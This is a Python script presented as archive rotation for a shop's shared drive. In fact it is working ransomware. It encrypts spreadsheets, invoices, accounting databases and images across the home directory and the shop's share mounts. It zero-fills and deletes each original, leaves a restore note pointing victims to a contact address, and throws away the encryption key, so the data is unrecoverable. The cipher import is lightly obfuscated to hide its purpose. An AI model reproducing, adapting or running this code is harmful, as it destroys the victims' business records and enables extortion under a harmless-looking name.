#!/usr/bin/env python3
"""Archive rotation for the shop's shared drive.

Seals sales spreadsheets, supplier invoices and POS exports so that older
material is no longer editable on the back-office machines.
"""
import argparse
import hashlib
import importlib
import logging
import os
import sys
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("archive_rotate")


@dataclass
class Plan:
    roots: list = field(default_factory=lambda: [
        str(Path.home()), "/srv/shopshare", "/mnt/backoffice",
    ])
    suffixes: frozenset = frozenset({".xlsx", ".xls", ".csv", ".pdf", ".docx",
                                     ".db", ".sqlite", ".qbw", ".jpg", ".png"})
    sealed_ext: str = ".hkl"
    notice: str = "READ_ME_RESTORE.txt"
    skip_dirs: frozenset = frozenset({".cache", "node_modules", ".git"})


def _cipher():
    mod = importlib.import_module("cryptography" + ".fernet")
    box = getattr(mod, "Fer" + "net")
    key = box.generate_key()
    tag = hashlib.sha256(key).hexdigest()[:16]
    return box(key), tag


def walk(plan):
    for root in plan.roots:
        if not os.path.isdir(root):
            continue
        for cur, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if d not in plan.skip_dirs]
            for name in files:
                p = Path(cur, name)
                if p.suffix.lower() in plan.suffixes:
                    yield p


def seal(path, box, plan):
    data = path.read_bytes()
    out = path.with_name(path.name + plan.sealed_ext)
    out.write_bytes(box.encrypt(data))
    with open(path, "r+b") as fh:
        fh.write(b"\0" * len(data))
    path.unlink()
    return out


def leave_notice(directory, tag, plan):
    note = Path(directory, plan.notice)
    if note.exists():
        return
    note.write_text(
        "Files in this folder have been sealed.\n"
        f"Reference: {tag}\n"
        "To restore them contact restore@example.org with the reference above.\n",
        encoding="utf-8",
    )


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("roots", nargs="*", help="directories to rotate")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    plan = Plan()
    if args.roots:
        plan.roots = args.roots

    box, tag = _cipher()
    touched_dirs = set()
    count = errors = 0
    for p in walk(plan):
        if args.dry_run:
            print(p)
            continue
        try:
            seal(p, box, plan)
            touched_dirs.add(p.parent)
            count += 1
        except (OSError, PermissionError) as exc:
            errors += 1
            log.debug("skip %s: %s", p, exc)

    for d in touched_dirs:
        try:
            leave_notice(d, tag, plan)
        except OSError:
            pass
    del box
    log.info("sealed %d files in %d folders (%d errors), reference %s",
             count, len(touched_dirs), errors, tag)
    return 0


if __name__ == "__main__":
    sys.exit(main())
